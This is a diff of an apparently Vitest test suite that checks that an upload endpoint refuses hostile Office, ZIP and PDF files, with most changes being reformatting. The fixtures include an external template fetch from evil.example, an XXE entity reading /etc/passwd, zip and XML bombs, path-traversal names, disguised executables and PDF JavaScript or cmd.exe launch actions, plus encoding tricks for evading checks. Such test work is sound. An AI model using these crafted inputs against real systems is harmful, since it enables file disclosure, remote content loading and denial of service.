@@ -3,10 +3,24 @@ import { join } from 'node:path'
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
 import { testRegion, type Region } from '../../app/test-region.ts'
 import { multipart } from '../../app/test-values.ts'
-import { excel, packedObjects, pages, pdfOf, relationOf, streamOf, typesOf, word, zipOf, zipOfParts, type Entry } from './test-hostile-files.ts'
+import {
+  excel,
+  packedObjects,
+  pages,
+  pdfOf,
+  relationOf,
+  streamOf,
+  typesOf,
+  word,
+  zipOf,
+  zipOfParts,
+  type Entry,
+} from './test-hostile-files.ts'
 
 let region: Region
-beforeAll(async () => void (region = await testRegion('hostile uploads', undefined, { requestsPerMinute: 100_000 })))
+beforeAll(
+  async () => void (region = await testRegion('hostile uploads', undefined, { requestsPerMinute: 100_000 })),
+)
 afterAll(() => region.close())
 
 let sent = 0
@@ -15,48 +29,147 @@ async function upload(name: string, content: Buffer) {
   const people = Object.values(region.people)
   const who = people[(sent += 1) % people.length] ?? region.people.school
   const { payload, headers } = multipart(name, 'application/octet-stream', content)
-  const answer = await region.app.inject({ method: 'POST', url: '/api/v1/upload/object', payload, headers: { ...headers, token: who.token } })
+  const answer = await region.app.inject({
+    method: 'POST',
+    url: '/api/v1/upload/object',
+    payload,
+    headers: { ...headers, token: who.token },
+  })
   return { status: answer.statusCode, ...(answer.json() as { msg: string; data: { mime: string } }) }
 }
 
 async function refused(name: string, content: Buffer, sentence = /[\u4e00-\u9fff]{4}/) {
   const answer = await upload(name, content)
-  expect([answer.status, answer.msg], `${name}: ${answer.msg}`).toEqual([400, expect.stringMatching(sentence)])
+  expect([answer.status, answer.msg], `${name}: ${answer.msg}`).toEqual([
+    400,
+    expect.stringMatching(sentence),
+  ])
 }
 
 const template = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate'
 const package2006 = 'http://schemas.openxmlformats.org/package/2006'
 const settings = (text: string | Buffer) => ({ ...word, 'word/_rels/settings.xml.rels': text })
-const wordTypes = (more: string) => ({ ...word, '[Content_Types].xml': typesOf('word/document.xml', 'wordprocessingml.document.main+xml', more) })
+const wordTypes = (more: string) => ({
+  ...word,
+  '[Content_Types].xml': typesOf('word/document.xml', 'wordprocessingml.document.main+xml', more),
+})
 const bomb = Buffer.alloc(30 * 1024 * 1024)
 
 describe('whoever wants a document to fetch or run something when it is opened, is refused', () => {
   it.each<[string, Readonly<Record<string, string | Buffer>>]>([
-    ['a template under a prefixed name', settings(`<r:Relationships xmlns:r="${package2006}/relationships"><r:Relationship Id="r1" TargetMode="External" Type="${template}" Target="https://evil.example/t.dotm"/></r:Relationships>`)],
-    ['a template whose mode is spelt by letters’ numbers', settings(relationOf('attachedTemplate', 'TargetMode="&#69;xternal"'))],
-    ['a template behind an attribute with >', settings(relationOf('attachedTemplate', 'x="a>b" TargetMode="External"'))],
-    ['a template named by an entity', settings(`<!DOCTYPE Relationships [<!ENTITY m "External">]>${relationOf('attachedTemplate', 'TargetMode="&m;"')}`)],
+    [
+      'a template under a prefixed name',
+      settings(
+        `<r:Relationships xmlns:r="${package2006}/relationships"><r:Relationship Id="r1" TargetMode="External" Type="${template}" Target="https://evil.example/t.dotm"/></r:Relationships>`,
+      ),
+    ],
+    [
+      'a template whose mode is spelt by letters’ numbers',
+      settings(relationOf('attachedTemplate', 'TargetMode="&#69;xternal"')),
+    ],
+    [
+      'a template behind an attribute with >',
+      settings(relationOf('attachedTemplate', 'x="a>b" TargetMode="External"')),
+    ],
+    [
+      'a template named by an entity',
+      settings(
+        `<!DOCTYPE Relationships [<!ENTITY m "External">]>${relationOf('attachedTemplate', 'TargetMode="&m;"')}`,
+      ),
+    ],
     ['a relation of a kind nobody knows', settings(relationOf('whatever', 'TargetMode="External"'))],
-    ['a relation list in another encoding', settings(Buffer.from(`\ufeff${relationOf('attachedTemplate', 'TargetMode="External"')}`, 'utf16le'))],
-    ['a DTD that reads a file', { ...word, 'word/document.xml': '<?xml version="1.0"?><!DOCTYPE w [<!ENTITY f SYSTEM "file:///etc/passwd">]><w>&f;</w>' }],
-    ['a billion laughs in a sheet', { ...excel, 'xl/sharedStrings.xml': '<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><l>&b;</l>' }],
-    ['a DTD behind a long comment', { ...word, 'docProps/app.xml': `<!--${'x'.repeat(70_000)}--><!DOCTYPE a [<!ENTITY b "c">]><a/>` }],
-    ['macros declared under a prefix', { ...word, '[Content_Types].xml': `<t:Types xmlns:t="${package2006}/content-types"><t:Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/><t:Override PartName="/word/a.dat" ContentType="application/vnd.ms-office.&#118;baProject"/></t:Types>` }],
-    ['a type with macros', wordTypes('<Override PartName="/word/b.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>')],
-    ['a control reached by a relation only', { ...word, 'word/_rels/document.xml.rels': relationOf('control', '', 'things/a.dat'), 'word/things/a.dat': 'x' }],
-    ['a workbook with macros within a document', { ...word, 'word/embeddings/Microsoft_Excel_Sheet1.xlsx': zipOfParts({ ...excel, 'xl/vbaProject.bin': 'x' }) }],
-    ['a program among the pictures', { ...word, 'word/media/image1.png': Buffer.concat([Buffer.from('MZ'), Buffer.alloc(200)]) }],
+    [
+      'a relation list in another encoding',
+      settings(Buffer.from(`\ufeff${relationOf('attachedTemplate', 'TargetMode="External"')}`, 'utf16le')),
+    ],
+    [
+      'a DTD that reads a file',
+      {
+        ...word,
+        'word/document.xml':
+          '<?xml version="1.0"?><!DOCTYPE w [<!ENTITY f SYSTEM "file:///etc/passwd">]><w>&f;</w>',
+      },
+    ],
+    [
+      'a billion laughs in a sheet',
+      { ...excel, 'xl/sharedStrings.xml': '<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><l>&b;</l>' },
+    ],
+    [
+      'a DTD behind a long comment',
+      { ...word, 'docProps/app.xml': `<!--${'x'.repeat(70_000)}--><!DOCTYPE a [<!ENTITY b "c">]><a/>` },
+    ],
+    [
+      'macros declared under a prefix',
+      {
+        ...word,
+        '[Content_Types].xml': `<t:Types xmlns:t="${package2006}/content-types"><t:Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/><t:Override PartName="/word/a.dat" ContentType="application/vnd.ms-office.&#118;baProject"/></t:Types>`,
+      },
+    ],
+    [
+      'a type with macros',
+      wordTypes(
+        '<Override PartName="/word/b.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>',
+      ),
+    ],
+    [
+      'a control reached by a relation only',
+      {
+        ...word,
+        'word/_rels/document.xml.rels': relationOf('control', '', 'things/a.dat'),
+        'word/things/a.dat': 'x',
+      },
+    ],
+    [
+      'a workbook with macros within a document',
+      {
+        ...word,
+        'word/embeddings/Microsoft_Excel_Sheet1.xlsx': zipOfParts({ ...excel, 'xl/vbaProject.bin': 'x' }),
+      },
+    ],
+    [
+      'a program among the pictures',
+      { ...word, 'word/media/image1.png': Buffer.concat([Buffer.from('MZ'), Buffer.alloc(200)]) },
+    ],
   ])('%s', (_, parts) => refused('文件.docx', zipOfParts(parts)))
 })
 
 describe('whoever wants to fill the memory or the disk of a reader, is refused', () => {
   it.each<[string, () => Buffer]>([
     ['sizes that lie: much in little', () => zipOf([{ name: 'a.txt', content: bomb, claims: 10 }])],
-    ['much in little, truly said', () => zipOf(Array.from({ length: 8 }, (_, n) => ({ name: `${n}.txt`, content: bomb })))],
-    ['a bomb within a zip within a zip', () => zipOfParts({ 'b.zip': zipOfParts({ 'c.zip': zipOf(Array.from({ length: 8 }, (_, n) => ({ name: `${n}`, content: bomb }))) }) })],
-    ['zips within zips without end', () => Array.from({ length: 6 }).reduce<Buffer>((inner) => zipOfParts({ 'a.zip': inner }), zipOfParts({ a: 'x' }))],
-    ['ten thousand entries', () => zipOf(Array.from({ length: 10_000 }, (_, n) => ({ name: `${n}`, content: '' })))],
-    ['a packed object of a PDF that inflates without end', () => pdfOf({ 1: '<< /Type /Catalog /Pages 2 0 R >>', ...pages, 4: packedObjects({ 5: `(${'a'.repeat(80 * 1024 * 1024)})` }) })],
+    [
+      'much in little, truly said',
+      () => zipOf(Array.from({ length: 8 }, (_, n) => ({ name: `${n}.txt`, content: bomb }))),
+    ],
+    [
+      'a bomb within a zip within a zip',
+      () =>
+        zipOfParts({
+          'b.zip': zipOfParts({
+            'c.zip': zipOf(Array.from({ length: 8 }, (_, n) => ({ name: `${n}`, content: bomb }))),
+          }),
+        }),
+    ],
+    [
+      'zips within zips without end',
+      () =>
+        Array.from({ length: 6 }).reduce<Buffer>(
+          (inner) => zipOfParts({ 'a.zip': inner }),
+          zipOfParts({ a: 'x' }),
+        ),
+    ],
+    [
+      'ten thousand entries',
+      () => zipOf(Array.from({ length: 10_000 }, (_, n) => ({ name: `${n}`, content: '' }))),
+    ],
+    [
+      'a packed object of a PDF that inflates without end',
+      () =>
+        pdfOf({
+          1: '<< /Type /Catalog /Pages 2 0 R >>',
+          ...pages,
+          4: packedObjects({ 5: `(${'a'.repeat(80 * 1024 * 1024)})` }),
+        }),
+    ],
   ])('%s', async (_, made) => refused('材料.zip', made()))
 })
 
@@ -83,11 +196,29 @@ describe('whoever wants a file to land elsewhere, or a program to arrive in a zi
     ['another name in an extra field', { name: 'b.txt', content: 'x', extra: unicodePath('../../b.txt') }],
     ['a program', { name: '资料/安装.EXE', content: 'x' }],
     ['a program with a dot behind', { name: 'a.exe.', content: 'x' }],
-    ['a program under another ending', { name: '照片.jpg', content: Buffer.concat([Buffer.from('MZ'), Buffer.alloc(200)]) }],
+    [
+      'a program under another ending',
+      { name: '照片.jpg', content: Buffer.concat([Buffer.from('MZ'), Buffer.alloc(200)]) },
+    ],
     ['a program in a zip within', { name: 'b.zip', content: zipOfParts({ 'a.exe': 'x' }) }],
-    ['an archive nobody can look into', { name: 'b.dat', content: Buffer.from('526172211a0701003392b5e50a01050600050101808000', 'hex') }],
-    ['a document with macros within', { name: '附件.docx', content: zipOfParts({ ...word, 'word/vbaProject.bin': 'x' }) }],
-    ['a PDF with a script within', { name: '附件.pdf', content: pdfOf({ 1: '<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (1) >> >>', ...pages }) }],
+    [
+      'an archive nobody can look into',
+      { name: 'b.dat', content: Buffer.from('526172211a0701003392b5e50a01050600050101808000', 'hex') },
+    ],
+    [
+      'a document with macros within',
+      { name: '附件.docx', content: zipOfParts({ ...word, 'word/vbaProject.bin': 'x' }) },
+    ],
+    [
+      'a PDF with a script within',
+      {
+        name: '附件.pdf',
+        content: pdfOf({
+          1: '<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (1) >> >>',
+          ...pages,
+        }),
+      },
+    ],
     ['a password', { name: 'b.txt', content: 'x', flag: 0x801 }],
   ])('%s', (_, entry) => refused('材料.zip', zipOf([{ name: '说明.txt', content: '好' }, entry])))
 })
@@ -101,23 +232,68 @@ describe('whoever wants a PDF to run or carry something, is refused', () => {
     ['a script whose name is spelt by numbers', () => of('<< /S /J#61vaScrip#74 /J#53 (1) >>')],
     ['a script in packed objects', () => of(packedObjects({ 5: script }))],
     ['a script in packed objects that do not say so', () => of(packedObjects({ 5: script }, ''))],
-    ['a script in packed objects whose type is spelt by numbers', () => of(packedObjects({ 5: '<< /S /#4a#61vaScript >>' }, '/Type /Obj#53tm'))],
-    ['a name apart from its action', () => pdfOf({ 1: root, ...pages, 5: '<< /S 6 0 R >>', 6: '/JavaScript' })],
+    [
+      'a script in packed objects whose type is spelt by numbers',
+      () => of(packedObjects({ 5: '<< /S /#4a#61vaScript >>' }, '/Type /Obj#53tm')),
+    ],
+    [
+      'a name apart from its action',
+      () => pdfOf({ 1: root, ...pages, 5: '<< /S 6 0 R >>', 6: '/JavaScript' }),
+    ],
     ['a program to start', () => of(packedObjects({ 5: '<< /S /Launch /F (cmd.exe) >>' }))],
     ['a file carried along', () => of(streamOf('/Type /Embedded#46ile', Buffer.from('MZ')))],
     ['a form with scripts', () => of(packedObjects({ 5: '<< /XFA [(a) 9 0 R] >>' }))],
-    ['packed objects in the bytes of a stream', () => of(streamOf('', Buffer.concat([Buffer.from('5 0 obj\n'), packedObjects({ 5: script }), Buffer.from('\nendobj\n')])))],
-    ['packed objects behind a comment', () => Buffer.concat([pdfOf({ 1: root, ...pages }), Buffer.from('5 %a\n0 % b\r obj '), packedObjects({ 6: script }), Buffer.from('\nendobj\n%%EOF')])],
-    ['packed objects that nobody can read', () => of(streamOf('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', Buffer.from('rubbish')))],
-    ['packed objects behind a second wrapping', () => of(streamOf('/Type /ObjStm /N 1 /First 4 /Filter [/ASCIIHexDecode /FlateDecode]', Buffer.from('00>')))],
+    [
+      'packed objects in the bytes of a stream',
+      () =>
+        of(
+          streamOf(
+            '',
+            Buffer.concat([
+              Buffer.from('5 0 obj\n'),
+              packedObjects({ 5: script }),
+              Buffer.from('\nendobj\n'),
+            ]),
+          ),
+        ),
+    ],
+    [
+      'packed objects behind a comment',
+      () =>
+        Buffer.concat([
+          pdfOf({ 1: root, ...pages }),
+          Buffer.from('5 %a\n0 % b\r obj '),
+          packedObjects({ 6: script }),
+          Buffer.from('\nendobj\n%%EOF'),
+        ]),
+    ],
+    [
+      'packed objects that nobody can read',
+      () => of(streamOf('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', Buffer.from('rubbish'))),
+    ],
+    [
+      'packed objects behind a second wrapping',
+      () =>
+        of(
+          streamOf('/Type /ObjStm /N 1 /First 4 /Filter [/ASCIIHexDecode /FlateDecode]', Buffer.from('00>')),
+        ),
+    ],
     ['no end', () => Buffer.from('%PDF-1.7\n1 0 obj\n<< >>\nendobj\n')],
   ])('%s', (_, made) => refused('证书.pdf', made()))
 })
 
 describe('what people really have', () => {
   it.each([
-    ['notice.docx', /wordprocessingml/], ['charts.docx', /wordprocessingml/], ['hours.xlsx', /spreadsheetml/], ['summary.pptx', /presentationml/], ['charts.pptx', /presentationml/],
-    ['notice.doc', /msword/], ['hours.xls', /ms-excel/], ['materials.zip', /zip/], ['locked.pdf', /pdf/], ['names.txt', /text\/plain/],
+    ['notice.docx', /wordprocessingml/],
+    ['charts.docx', /wordprocessingml/],
+    ['hours.xlsx', /spreadsheetml/],
+    ['summary.pptx', /presentationml/],
+    ['charts.pptx', /presentationml/],
+    ['notice.doc', /msword/],
+    ['hours.xls', /ms-excel/],
+    ['materials.zip', /zip/],
+    ['locked.pdf', /pdf/],
+    ['names.txt', /text\/plain/],
   ])('is taken: %s', async (name, mime) => {
     const answer = await upload(name, await readFile(join(import.meta.dirname, '../../../e2e/files', name)))
     expect(answer).toMatchObject({ msg: 'ok', data: { mime: expect.stringMatching(mime) } })
@@ -150,13 +326,19 @@ it('whoever wants everybody to wait while twenty large files and one without end
   const send = async (name: string, content: Buffer) => {
     const { payload, headers } = multipart(name, 'text/plain', content)
     const body = new Blob([Uint8Array.from(payload)])
-    const answer = await fetch(`${address}/api/v1/upload/object`, { method: 'POST', body, headers: { ...headers, token: region.people.city.token } })
+    const answer = await fetch(`${address}/api/v1/upload/object`, {
+      method: 'POST',
+      body,
+      headers: { ...headers, token: region.people.city.token },
+    })
     const { msg } = (await answer.json()) as { msg: string }
     return msg
   }
   // Each of its objects ends with the file only: a reader goes through all of it for each.
   let judged = false
-  const endless = send('a.pdf', Buffer.from(`%PDF-1.7\n${'1 0 obj(\n'.repeat(200_000)}%%EOF`)).finally(() => void (judged = true))
+  const endless = send('a.pdf', Buffer.from(`%PDF-1.7\n${'1 0 obj(\n'.repeat(200_000)}%%EOF`)).finally(
+    () => void (judged = true),
+  )
   const large = Buffer.from('继续教育学时登记表，一行又一行。\n'.repeat(200_000))
   const texts = Promise.all(Array.from({ length: 20 }, () => send('a.txt', large)))
   let answered = 0
